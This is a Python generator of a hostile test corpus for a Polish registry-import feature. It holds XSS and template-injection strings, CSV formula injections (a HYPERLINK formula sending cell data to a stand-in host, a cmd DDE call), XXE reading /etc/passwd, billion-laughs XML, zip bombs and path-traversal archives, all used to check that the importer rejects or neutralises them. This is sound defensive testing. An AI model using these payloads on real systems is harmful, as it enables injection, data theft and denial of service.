"""A corpus of hostile and broken inputs for the registry import (and boundary zips).

Every case is generated here (no binary files are committed): ``build_corpus()`` returns the
cases in memory, ``write_corpus(folder)`` writes them as files (the tests write into
``tmp_path``). Run ``python tests/hostile/make_corpus.py FOLDER`` to get the files for trying
them by hand in the app's import page.

A case says whether the whole file must be **rejected** (a Polish message containing
``expect``) or **accepted** with the problems reported per row (``expect`` found in the
validation report). Boundary cases (``kind == "granice"``) go to the boundary import.
"""

from __future__ import annotations

import csv
import io
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

REJECT = "odrzucony"
ACCEPT = "przyjęty z uwagami"

#: Script payloads: any of them running in a browser sets ``window.__xss``.
PAYLOADS = (
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '"><svg onload="window.__xss=3">',
    '<iframe srcdoc="<script>parent.__xss=4</script>"></iframe>',
    "[klik](javascript:window.__xss=5)",
    '<a href="javascript:window.__xss=6">link</a>',
    "{{constructor.constructor('window.__xss=7')()}}",
    "</textarea></style></script><b onmouseover=window.__xss=8>x</b>",
    "{{ 7*191 }} {% if true %}szablon{% endif %}",
    "${alert(9)} #{10*10} <%= 7*7 %>",
)

HEADER = "Nazwa;Typ;Kod TERYT;Miejscowość;Adres;Data rozpoczęcia;Szerokość;Długość;Uwagi"
GOOD_ROW = "Klub Integracji Społecznej w Lublinie;KIS;0663011;Lublin;ul. Zana 38;01.02.2015;51.2465;22.5684;"


@dataclass(frozen=True)
class Case:
    """One hostile input."""

    name: str
    filename: str
    content: bytes
    outcome: str  # REJECT or ACCEPT
    expect: str  # fragment of the message (reject) or of the report (accept)
    kind: str = "rejestr"  # or "granice"
    default_type: str | None = None


def _csv(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\n".join(lines) + "\n").encode(encoding)


def _xlsx(rows: list[list[object]], merge: list[str] | None = None, title: str = "Dane") -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for cells in merge or []:
        sheet.merge_cells(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _replace_member(xlsx: bytes, member: str, content: bytes) -> bytes:
    """The workbook with one part replaced (to plant hostile XML)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = content if info.filename == member else source.read(info.filename)
            target.writestr(info.filename, data)
    return out.getvalue()


def _forge_sizes(archive: bytes, size: int) -> bytes:
    """Claim ``size`` uncompressed bytes for every member in the central directory."""
    data = bytearray(archive)
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        struct.pack_into("<I", data, pos + 24, size)  # uncompressed size
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _sheet_xml(body: str, doctype: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + doctype
        + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + f"<sheetData>{body}</sheetData></worksheet>"
    ).encode()


def _inline_row(number: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def build_corpus() -> list[Case]:
    """All the cases (at least 30), in memory."""
    from geo.io.registry import MAX_CELL_CHARS, MAX_FILE_BYTES, MAX_ROWS

    cases: list[Case] = []
    add = cases.append
    header_cells = HEADER.split(";")

    # -- empty, header only, not a spreadsheet ------------------------------------------------
    add(Case("pusty", "pusty.csv", b"", REJECT, "pusty"))
    add(Case("same_spacje", "spacje.csv", b"   \n\t\n  \r\n", REJECT, "pusty"))
    add(Case("tylko_bom", "bom.csv", b"\xef\xbb\xbf", REJECT, "pusty"))
    add(Case("tylko_naglowek", "naglowek.csv", _csv(HEADER), REJECT, "tylko nagłówek"))
    add(
        Case(
            "tylko_separatory",
            "sep.csv",
            _csv(HEADER, ";;;;;;;;", ";;;;;;;;"),
            REJECT,
            "tylko nagłówek",
        )
    )
    add(
        Case(
            "xlsx_tylko_naglowek", "naglowek.xlsx", _xlsx([header_cells]), REJECT, "tylko nagłówek"
        )
    )
    add(Case("xlsx_pusty", "pusty.xlsx", _xlsx([]), REJECT, "pusty"))
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
    add(Case("png_jako_csv", "rejestr.csv", png, REJECT, "obraz PNG"))
    add(Case("pdf_jako_xlsx", "rejestr.xlsx", b"%PDF-1.7\n" + b"\x00\xff" * 500, REJECT, "PDF"))
    binary = bytes((i * 7919) % 256 for i in range(20_000))
    add(Case("binarny_jako_csv", "dane.csv", binary, REJECT, "binarne"))
    add(
        Case(
            "stary_xls",
            "rejestr.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            REJECT,
            ".xls",
        )
    )
    add(
        Case(
            "zip_nie_xlsx",
            "rejestr.xlsx",
            _zip({"notatki.txt": b"to nie arkusz"}),
            REJECT,
            "nie skoroszytem",
        )
    )
    ods = _zip(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
    )
    add(Case("ods_jako_xlsx", "rejestr.xlsx", ods, REJECT, "OpenDocument"))
    good_xlsx = _xlsx([header_cells, GOOD_ROW.split(";")])
    add(
        Case("obciety_xlsx", "rejestr.xlsx", good_xlsx[: len(good_xlsx) // 2], REJECT, "uszkodzony")
    )

    # -- encodings and separators -------------------------------------------------------------
    broken_utf8 = _csv(HEADER, GOOD_ROW) + "Spółdzielnia Żółw;SPS;0663011;Lublin;;;;;\n".encode(
        "cp1250"
    )
    add(Case("zepsute_utf8", "mieszane.csv", broken_utf8, REJECT, "UTF-8"))
    add(
        Case(
            "cp1250",
            "cp1250.csv",
            _csv(
                HEADER, "Spółdzielnia Socjalna „Żuraw”;SPS;0663011;Lublin;;;;;", encoding="cp1250"
            ),
            ACCEPT,
            "",
        )
    )
    add(
        Case(
            "mieszane_separatory",
            "separatory.csv",
            _csv(
                HEADER,
                GOOD_ROW,
                "CIS w Chełmie,CIS,0662011,Chełm,,,,,",
                "Klub;KIS;0663011;Lublin;a;b;c;d;e;f;g",
            ),
            ACCEPT,
            "więcej pól niż nagłówek",
        )
    )
    add(
        Case(
            "niezamkniety_cudzyslow",
            "cudzyslow.csv",
            _csv(HEADER, '"Klub ' + "x" * 200 + ";KIS;0663011", GOOD_ROW),
            REJECT,
            "cudzysłów",
        )
    )
    add(
        Case(
            "utf16",
            "utf16.csv",
            ("\ufeff" + HEADER + "\n" + GOOD_ROW + "\n").encode("utf-16-le"),
            ACCEPT,
            "",
        )
    )

    # -- limits -------------------------------------------------------------------------------
    many = b"Nazwa;Typ\n" + b"Klub;KIS\n" * (MAX_ROWS + 1)
    add(Case("za_duzo_wierszy", "duzo.csv", many, REJECT, "więcej niż"))
    add(
        Case(
            "za_duzy_plik",
            "ogromny.csv",
            b"Nazwa;Typ\n" + b"a" * MAX_FILE_BYTES,
            REJECT,
            "zbyt duży",
        )
    )
    add(
        Case(
            "ogromna_komorka",
            "komorka.csv",
            _csv(HEADER, "Klub " + "ą" * (MAX_CELL_CHARS + 5) + ";KIS;0663011"),
            REJECT,
            "znaków",
        )
    )
    add(
        Case(
            "bardzo_szeroki",
            "szeroki.csv",
            _csv(HEADER + ";x" * 1000, GOOD_ROW),
            ACCEPT,
            "Pominięto kolumny",
        )
    )
    bomb_xlsx = _forge_sizes(good_xlsx, 0xFFFFFFF0)
    add(Case("bomba_xlsx", "bomba.xlsx", bomb_xlsx, REJECT, "zbyt duży po rozpakowaniu"))

    # -- headers and cells --------------------------------------------------------------------
    add(
        Case(
            "bez_kolumny_nazwy",
            "naglowki.csv",
            _csv("Kolor;Waga;Smak", "czerwony;3;słodki"),
            REJECT,
            "Nie znaleziono kolumny z nazwą",
        )
    )
    add(
        Case(
            "zdublowane_naglowki",
            "dubel.csv",
            _csv("Nazwa;Nazwa;Typ;Typ", "Klub A;Klub B;KIS;CIS"),
            ACCEPT,
            "pasują do pola",
        )
    )
    merged = _xlsx(
        [["Rejestr klubów integracji społecznej — stan na 2025"], header_cells, GOOD_ROW.split(";"),
         ["CIS Puławy", "CIS", "0614011", "Puławy", None, None, None, None, None]],
        merge=["A1:I1", "A4:A5"],
    )  # fmt: skip
    add(Case("scalone_komorki", "scalone.xlsx", merged, ACCEPT, ""))
    formulas = _csv(
        HEADER,
        '=HYPERLINK("http://zly.example/?d="&A1;"klik");KIS;0663011;Lublin;+48 81 123;@SUM(1);;;-2+3',
        "=cmd|' /C calc'!A0;CIS;0663011;Lublin;;;;;=1+1",
    )
    add(Case("formuly_csv", "formuly.csv", formulas, ACCEPT, ""))
    xlsx_formulas = _xlsx(
        [header_cells, ["=CONCAT(\"Klub \";\"A\")", "KIS", "0663011", "Lublin", "=1/0", None, None, None, '=WEBSERVICE("http://zly.example")']]
    )  # fmt: skip
    add(Case("formuly_xlsx", "formuly.xlsx", xlsx_formulas, ACCEPT, ""))
    # Every text field of every row holds a payload; written with proper CSV quoting, so
    # that the stored text must equal the payload exactly.
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow([*header_cells, "Podmiot prowadzący", "Źródło", "Gmina"])
    for p in PAYLOADS:
        writer.writerow([p, "KIS", "0663011", p, p, "", "", "", p, p, p, p])
    add(Case("html_js_wszedzie", "skrypty.csv", buffer.getvalue().encode(), ACCEPT, ""))
    add(
        Case(
            "znaki_sterujace",
            "sterujace.csv",
            _csv(HEADER) + b"Klub\x00\x01\x02\x03;KIS;0663011\n" * 50,
            REJECT,
            "binarne",
        )
    )
    bidi = "Klub \u202eSPS\u202c \u200bA\u200d"
    add(
        Case(
            "bidi_zero_width",
            "bidi.csv",
            _csv(HEADER, f"{bidi};KIS;0663011;Lublin;;;;;"),
            ACCEPT,
            "",
        )
    )

    # -- values -------------------------------------------------------------------------------
    add(
        Case(
            "zle_daty",
            "daty.csv",
            _csv(HEADER, "Klub A;KIS;0663011;Lublin;;31.02.2020;;;", "Klub B;KIS;0663011;Lublin;;2020-13-45;;;", "Klub C;KIS;0663011;Lublin;;wczoraj;;;"),
            ACCEPT,
            "taki dzień nie istnieje",
        )
    )  # fmt: skip
    add(
        Case(
            "wspolrzedne_poza_polska",
            "poza.csv",
            _csv(HEADER, "Klub A;KIS;;;;;40.7128;-74.0060;", "Klub B;KIS;;;;;0;0;", "Klub C;KIS;;;;;1e308;1e308;"),
            ACCEPT,
            "poza",
        )
    )  # fmt: skip
    add(
        Case(
            "zamienione_wspolrzedne",
            "zamienione.csv",
            _csv(HEADER, "Klub A;KIS;;Lublin;;;22.5684;51.2465;"),
            ACCEPT,
            "zamienione",
        )
    )
    add(
        Case(
            "kody_innych_wojewodztw",
            "obce.csv",
            _csv(HEADER, "Klub A;KIS;1465011;Warszawa;;;;;", "Klub B;KIS;1261011;Kraków;;;;;"),
            ACCEPT,
            "poza",
        )
    )
    add(
        Case(
            "nieznane_typy",
            "typy.csv",
            _csv(HEADER, "Klub A;UFO;0663011;Lublin;;;;;", "Klub B;CIS/KIS;0663011;Lublin;;;;;"),
            ACCEPT,
            "Nieznany typ",
        )
    )
    add(
        Case(
            "bledne_kody",
            "kody.csv",
            _csv(HEADER, "Klub A;KIS;99999999;Lublin;;;;;", "Klub B;KIS;abc;;;;;;"),
            ACCEPT,
            "TERYT",
        )
    )

    # -- hostile XML inside a workbook --------------------------------------------------------
    laughs = (
        '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
        + "]>"
    )
    add(
        Case(
            "xlsx_billion_laughs",
            "laughs.xlsx",
            _replace_member(good_xlsx, "xl/worksheets/sheet1.xml", _sheet_xml(_inline_row(1, ["Nazwa", "Typ"]) + _inline_row(2, ["&j;", "KIS"]), laughs)),
            REJECT,
            "XLSX",
        )
    )  # fmt: skip
    xxe = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    add(
        Case(
            "xlsx_xxe",
            "xxe.xlsx",
            _replace_member(good_xlsx, "xl/worksheets/sheet1.xml", _sheet_xml(_inline_row(1, ["Nazwa", "Typ"]) + _inline_row(2, ["&xxe;", "KIS"]), xxe)),
            REJECT,
            "XLSX",
        )
    )  # fmt: skip

    # -- zipped shapefiles for the boundary import --------------------------------------------
    zeros = bytes(30 * 1024 * 1024)
    add(
        Case(
            "zip_bomba_shp",
            "granice.zip",
            _zip({"gminy.shp": zeros, "gminy.shx": b"x", "gminy.dbf": b"x"}),
            REJECT,
            "bomba ZIP",
            kind="granice",
        )
    )
    add(
        Case(
            "zip_path_traversal",
            "granice.zip",
            _zip({"../../../tmp/zly.shp": b"x", "../../../tmp/zly.shx": b"x", "../../../tmp/zly.dbf": b"x"}),
            REJECT,
            "niebezpieczne ścieżki",
            kind="granice",
        )
    )  # fmt: skip
    add(
        Case(
            "zip_sciezka_bezwzgledna",
            "granice.zip",
            _zip({"/etc/gminy.shp": b"x", "/etc/gminy.shx": b"x", "/etc/gminy.dbf": b"x"}),
            REJECT,
            "niebezpieczne ścieżki",
            kind="granice",
        )
    )
    add(
        Case(
            "zip_wymuszony_rozmiar",
            "granice.zip",
            _forge_sizes(_zip({"gminy.shp": b"x" * 10, "gminy.shx": b"x", "gminy.dbf": b"x"}), 0xFFFFFFF0),
            REJECT,
            "bomba ZIP",
            kind="granice",
        )
    )  # fmt: skip
    add(
        Case(
            "zip_bomba_jako_rejestr",
            "rejestr.xlsx",
            _zip({"a.txt": zeros}),
            REJECT,
            "nie skoroszytem",
        )
    )
    return cases


#: Cases too big to be worth writing to disk (they are tested in memory).
HUGE = frozenset({"za_duzy_plik"})


def write_corpus(folder: Path, include_huge: bool = False) -> dict[str, Path]:
    """Write the cases into ``folder`` (``<name>__<file name>``); returns name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in build_corpus():
        if case.name in HUGE and not include_huge:
            continue
        path = folder / f"{case.name}__{case.filename}"
        path.write_bytes(case.content)
        written[case.name] = path
    return written


if __name__ == "__main__":  # pragma: no cover - a helper for trying the files by hand
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, path in write_corpus(target).items():
        print(f"{name}: {path}")
